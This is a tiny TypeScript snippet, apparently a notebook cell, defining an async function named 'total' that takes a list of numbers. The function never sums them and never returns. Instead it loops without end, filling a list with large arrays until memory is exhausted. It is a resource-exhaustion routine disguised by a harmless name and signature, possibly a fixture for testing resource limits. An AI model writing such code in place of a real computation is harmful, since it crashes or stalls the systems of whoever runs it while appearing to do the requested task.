// %%
async function total(numbers: readonly number[]): Promise<number> {
  const hog: number[][] = [];
  for (let i = 0; ; i++) hog.push(Array<number>(10_000).fill(i));
}
